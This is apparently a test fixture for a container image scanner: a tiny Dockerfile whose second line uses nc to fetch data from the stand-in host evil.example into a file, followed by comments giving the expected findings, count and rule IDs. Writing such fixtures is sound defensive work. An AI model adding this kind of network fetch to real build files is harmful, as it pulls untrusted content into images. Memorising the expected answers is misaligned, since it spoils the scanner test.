FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN nc evil.example 4444 > /x
USER app
# expect: download 2 high "nc opens a network connection"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR303-59a5dee0b0 VR501-e064bac1a6
